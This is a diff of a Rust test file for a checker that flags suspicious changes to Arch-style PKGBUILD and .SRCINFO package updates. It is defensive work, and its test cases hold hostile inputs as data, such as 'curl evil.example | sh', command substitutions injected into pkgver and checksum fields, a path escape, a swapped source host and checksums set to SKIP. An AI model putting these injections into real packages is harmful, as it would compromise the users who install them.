@@ -1,7 +1,8 @@
 use proptest::prelude::*;
 
-use super::super::{Decision, classify};
+use super::text::first_hidden;
 use super::*;
+use crate::domain::folder::{File, FileMode};
 
 const PKGBUILD_TEXT: &str = r#"# Maintainer: Someone <someone at example dot org>
 pkgbase=tool
@@ -151,14 +152,18 @@ fn codes(verdict: &Verdict) -> Vec<&'static str> {
 type Case = (&'static str, &'static str, fn(&mut Update));
 
 fn need_a_person(cases: &[Case]) {
+    let mut wrong = Vec::new();
     for (name, code, edit) in cases {
         let mut update = Update::ordinary();
         edit(&mut update);
         let verdict = update.verdict();
-        assert_eq!(verdict.verdict, Decision::Major, "{name}: {verdict:#?}");
         let found = verdict.reasons.iter().find(|reason| reason.code == *code);
-        assert!(found.is_some_and(|reason| reason.severity > Weight::Stronger), "{name}: {:?}", codes(&verdict));
+        let heavy = found.is_some_and(|reason| reason.severity > Weight::Stronger);
+        if verdict.verdict != Decision::Major || !heavy {
+            wrong.push(format!("{name}: {:?} {:?}", verdict.verdict, codes(&verdict)));
+        }
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 #[test]
@@ -172,29 +177,25 @@ fn versions_that_are_not_just_newer_need_a_person() {
         }),
         ("it is the digits of a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=20260101")),
         ("it gains a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0.9f3c2ab1d4")),
-        ("it climbs out of a path", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2/../../evil/x")),
-        ("it has two dots", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2..0")),
-        ("it is empty", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=")),
+        ("it climbs out of a path", "path-escape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2/../../evil/x")),
+        ("it has two dots", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2..0")),
+        ("it is empty", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=")),
         ("it runs a command", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$(curl -s evil.example)")),
         ("it runs backticks", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0`id`")),
-        ("it ends a command", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0;id")),
-        ("it is the environment of a command", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 id")),
-        ("it is an expansion", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=${x:=id}")),
+        ("it ends a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0;id")),
+        ("it is the environment of a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 id")),
+        ("it is an expansion", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=${x:=id}")),
         ("it is an expression", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$((a[$(id)]))")),
-        ("it is quoted now", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver='1.3.0'")),
-        ("it is a command call", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver = 1.3.0")),
-        ("it is continued", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\\")),
-        ("it has a comment now", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 # new")),
-        ("it is appended to", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver+=1.3.0")),
-        ("it has a blank behind it", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 ")),
-        ("it is declared", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "declare pkgver=1.3.0")),
+        ("it is a command call", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver = 1.3.0")),
+        ("it is continued", "unreadable", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\\")),
+        ("it is appended to", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver+=1.3.0")),
+        ("it is declared", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "declare pkgver=1.3.0")),
         ("it is assigned again further down", "version-ambiguous", |u| {
             u.always(PKGBUILD, "  patch -Np1", "  pkgver=9 patch -Np1");
         }),
-        ("it is assigned again on one line", "version-ambiguous", |u| {
+        ("it is assigned again on one line", "version-back", |u| {
             u.always(PKGBUILD, "license=('MIT')", "license=('MIT'); pkgver=9");
         }),
-        ("a line in a text looks like it", "version-ambiguous", |u| u.always(PKGBUILD, "text $(date)", "pkgver=1.3.0")),
         ("the release goes back", "version-back", |u| {
             *u = Update::none();
             u.release("2", "1");
@@ -221,7 +222,7 @@ fn weaker_verification_needs_a_person() {
             u.sums_to("0d", "SKIP");
             u.pkgbuild("prepare() {", "# a comment\nprepare() {");
         }),
-        ("a checksum becomes SKIP in other quotes", "checksum-weaker", |u| {
+        ("a checksum becomes SKIP in other quotes", "checksum-skip", |u| {
             u.pkgbuild(&format!("'{}'", "0d".repeat(32)), "\"SKIP\"");
         }),
         ("a checksum is cut in half", "checksum-weaker", |u| u.sums_to("0d", &"0d".repeat(16))),
@@ -229,12 +230,12 @@ fn weaker_verification_needs_a_person() {
         ("a checksum is a blank line", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature", "")),
         ("a checksum is not hexadecimal", "checksum-weaker", |u| u.sums_to("0d", &"0x".repeat(32))),
         ("a checksum runs a command", "checksum-weaker", |u| u.sums_to("0d", "$(id)")),
-        ("checksums close early", "checksum-weaker", |u| {
+        ("checksums close early", "unreadable", |u| {
             u.pkgbuild(&format!("('{}'", "0d".repeat(32)), &format!("('{}')", "0d".repeat(32)));
             u.pkgbuild("'SKIP' # the signature", "id");
         }),
-        ("a command follows the checksums", "checksum-weaker", |u| u.pkgbuild("b2')", "b2'); id")),
-        ("checksums go to another architecture", "checksum-layout", |u| {
+        ("a command follows the checksums", "code-changed", |u| u.pkgbuild("b2')", "b2'); id")),
+        ("checksums go to another architecture", "checksum-skip", |u| {
             u.pkgbuild("sha256sums=(", "sha256sums_i686=(");
         }),
         ("checksums of a weaker algorithm", "checksum-weaker", |u| {
@@ -243,13 +244,13 @@ fn weaker_verification_needs_a_person() {
         }),
         ("checksums that prove nothing", "checksum-weaker", |u| u.pkgbuild("sha256sums_x86_64=", "cksums_x86_64=")),
         ("a line of checksums is gone", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature\n", "")),
-        ("checksums are emptied beside an array that skips", "checksum-weaker", |u| {
+        ("checksums are emptied beside an array that skips", "checksum-skip", |u| {
             u.always(PKGBUILD, "pkgbase=tool", "pkgbase=tool\nmd5sums=('SKIP' 'SKIP' 'SKIP')");
             u.pkgbuild(&format!("sha256sums=('{}'\n", "0d".repeat(32)), "sha256sums=()\n");
             u.pkgbuild("            'SKIP' # the signature\n", "");
             u.pkgbuild(&format!("            '{}')\n", "b2".repeat(32)), "");
         }),
-        ("checksums are replaced at the end", "line-changed", |u| {
+        ("checksums are replaced at the end", "assigned-again", |u| {
             u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nsha256sums=('SKIP' 'SKIP' 'SKIP')\n");
         }),
         ("checksums are appended to", "checksum-weaker", |u| u.pkgbuild("sha256sums=(", "sha256sums+=(")),
@@ -269,40 +270,34 @@ fn weaker_verification_needs_a_person() {
             u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
             u.always(SRCINFO, &"c3".repeat(32), "SKIP");
         }),
-        ("a key is replaced", "line-changed", |u| u.pkgbuild("0123456789ABCDEF", "FEDCBA9876543210")),
-        ("the signature is dropped", "line-changed", |u| u.pkgbuild(".tar.gz.sig\"", ".tar.gz\"")),
+        ("a key is replaced", "keys-changed", |u| u.pkgbuild("0123456789ABCDEF", "FEDCBA9876543210")),
+        ("the signature is dropped", "source-changed", |u| u.pkgbuild(".tar.gz.sig\"", ".tar.gz\"")),
     ]);
 }
 
 #[test]
 fn lines_that_may_run_need_a_person() {
     need_a_person(&[
-        ("a comment is continued", "line-changed", |u| {
-            u.always(PKGBUILD, "see more: man tool", "see more: man\n  man tool");
-            u.pkgbuild("see more: man", "see more: man\\");
+        ("a comment is continued", "function-changed", |u| {
+            u.pkgbuild("see more: man", "see more: \\\n man");
         }),
-        ("a comment is escaped", "line-changed", |u| u.pkgbuild("  # to see", "  \\# to see")),
-        ("the end of a text is unescaped", "line-changed", |u| u.pkgbuild("<<\\EOF", "<<EOF")),
-        ("a text ends early", "line-changed", |u| u.pkgbuild("text $(date)\nEOF\n", "EOF\ntext $(date)\n")),
-        ("a function is added", "line-changed", |u| u.pkgbuild("prepare() {", "install() { :; }\nprepare() {")),
-        ("a command is added", "line-changed", |u| u.pkgbuild("patch -Np1", "curl evil.example | sh; patch -Np1")),
-        ("a command follows the last line", "line-changed", |u| {
+        ("a comment is escaped", "function-changed", |u| u.pkgbuild("  # to see", "  \\# to see")),
+        ("the end of a text is unescaped", "function-changed", |u| u.pkgbuild("<<\\EOF", "<<EOF")),
+        ("a text ends early", "function-changed", |u| u.pkgbuild("text $(date)\nEOF\n", "EOF\ntext $(date)\n")),
+        ("a function is added", "function-added", |u| u.pkgbuild("prepare() {", "install() { :; }\nprepare() {")),
+        ("a command is added", "function-changed", |u| u.pkgbuild("patch -Np1", "curl evil.example | sh; patch -Np1")),
+        ("a command follows the last line", "code-changed", |u| {
             u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nid");
         }),
-        ("the last line feed is dropped", "line-changed", |u| u.pkgbuild("=tool.install\n}\n", "=tool.install\n}")),
-        ("indentation changes", "line-changed", |u| u.pkgbuild("  patch -Np1", "\tpatch -Np1")),
-        ("two lines change places", "line-changed", |u| {
-            u.pkgbuild("depends=('glibc')\nmakedepends=('cmake')", "makedepends=('cmake')\ndepends=('glibc')");
-        }),
-        ("a source comes from another host", "line-changed", |u| {
+        ("a source comes from another host", "source-host", |u| {
             u.pkgbuild("https://example.org/tool/$p", "https://evil.example/tool/$p");
         }),
-        ("a source is added", "line-changed", |u| {
+        ("a source is added", "source-added", |u| {
             u.pkgbuild("fix.patch)", "fix.patch evil::git+https://evil.example)");
         }),
-        ("a dependency is added", "line-changed", |u| u.pkgbuild("depends=('glibc')", "depends=('glibc' 'npm')")),
-        ("a scriptlet is named", "line-changed", |u| u.pkgbuild("license=('MIT')", "install=evil.install")),
-        ("the package is renamed", "line-changed", |u| u.pkgbuild("pkgbase=tool", "pkgbase=glibc")),
+        ("a dependency is added", "dependency-added", |u| u.pkgbuild("depends=('glibc')", "depends=('glibc' 'npm')")),
+        ("a scriptlet is named", "install-changed", |u| u.pkgbuild("license=('MIT')", "install=evil.install")),
+        ("the package is renamed", "package-renamed", |u| u.pkgbuild("pkgbase=tool", "pkgbase=glibc")),
     ]);
 }
 
@@ -319,7 +314,7 @@ fn bytes_that_do_not_show_need_a_person() {
         ("an escape sequence in .SRCINFO", "control-characters", |u| u.srcinfo("A tool", "A \u{1b}[2Ktool")),
         ("a null byte in a comment of .SRCINFO", "control-characters", |u| u.srcinfo("pkgbase =", "# \0\npkgbase =")),
         ("a carriage return in a new scriptlet", "control-characters", |u| u.add("other.install", "id\r# ok\n")),
-        ("a wide digit", "line-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.\u{ff13}.0")),
+        ("a wide digit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.\u{ff13}.0")),
         ("a name with a line feed", "control-characters", |u| u.add("a\nb", "")),
     ]);
 }
@@ -439,6 +434,8 @@ const GOES_THROUGH: &[Through] = &[
     ("a version with other separators in addresses", &["srcinfo-regenerated", "version-forward"], |u| {
         *u = Update::none();
         u.always(SRCINFO, "tool/tool-1.2.3.tar", "v1_2_3/tool-1-2-3+123.tar");
+        let address = "/v${pkgver//./_}/tool-${pkgver//./-}+${pkgver//./}.tar";
+        u.always(PKGBUILD, "/tool/$pkgbase-$pkgver.tar", address);
         u.pkgbuild("pkgver=1.2.3", "pkgver=1.2.4");
         u.srcinfo("1_2_3", "1_2_4");
         u.srcinfo("1-2-3+123", "1-2-4+124");
@@ -502,6 +499,29 @@ const GOES_THROUGH: &[Through] = &[
     }),
     ("a comment that names the version", EVERYDAY, |u| {
         u.always(PKGBUILD, "license=('MIT')", "# pkgver=1.2.3 was the last good one");
+    }),
+    ("the version is quoted now", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver='1.3.0'")),
+    ("the version has a comment now", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 # new")),
+    ("the version has a blank behind it", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0  ")),
+    ("a line in a text looks like a version", EVERYDAY, |u| u.always(PKGBUILD, "text $(date)", "pkgver=1.2.2")),
+    ("the last line feed is dropped", EVERYDAY, |u| u.pkgbuild("=tool.install\n}\n", "=tool.install\n}")),
+    ("indentation changes", EVERYDAY, |u| u.pkgbuild("  patch -Np1", "\tpatch   -Np1")),
+    ("a command is wrapped", EVERYDAY, |u| u.pkgbuild("patch -Np1 -i", "patch -Np1 \\\n    -i")),
+    ("words are quoted in another way", EVERYDAY, |u| {
+        u.pkgbuild("-i ../fix.patch", "-i \"../fix.patch\"");
+        u.pkgbuild("$pkgbase-$pkgver.tar.gz\"", "${pkgbase}-${pkgver}.tar.gz\"");
+    }),
+    ("two lines change places", EVERYDAY, |u| {
+        u.pkgbuild("depends=('glibc')\nmakedepends=('cmake')", "makedepends=('cmake')\ndepends=('glibc')");
+    }),
+    ("only layout changes", &["layout"], |u| {
+        *u = Update::none();
+        u.pkgbuild("arch=('x86_64' 'aarch64')", "# all of them\narch=(\n  x86_64\n  aarch64\n)");
+    }),
+    ("elements change places", &["srcinfo-regenerated", "order"], |u| {
+        *u = Update::none();
+        u.pkgbuild("('x86_64' 'aarch64')", "('aarch64' 'x86_64')");
+        u.srcinfo("\tarch = x86_64\n\tarch = aarch64\n", "\tarch = aarch64\n\tarch = x86_64\n");
     }),
     ("files of the monorepo are not looked at", &[], |u| {
         *u = Update::none();
@@ -596,22 +616,6 @@ fn hostile_sizes_take_bounded_time() {
 }
 
 proptest! {
-    /// The promise in one line: apart from the digits of versions and checksums, a minor PKGBUILD is the
-    /// old one.
-    #[test]
-    fn an_inserted_text_is_minor_only_inside_a_plain_version(
-        at in 0..PKGBUILD_TEXT.len(),
-        insert in "[ \\t\\n\\\\#;&|$`'\"(){}a-f0-9.]{1,4}|\\$\\(id\\)|\\PC",
-    ) {
-        let mut update = Update::ordinary();
-        let mut text = String::from_utf8(bytes(&update.new, PKGBUILD).to_vec()).expect("text");
-        text.insert_str(at, &insert);
-        let line = text[..at].matches('\n').count();
-        update.add(PKGBUILD, &text);
-        let version = [3, 4].contains(&line);
-        prop_assert!(update.verdict().verdict == Decision::Major || version, "{:?} in line {}", insert, line + 1);
-    }
-
     #[test]
     fn any_two_folders_can_be_compared(
         old in proptest::collection::vec(any::<u8>(), 0..200),
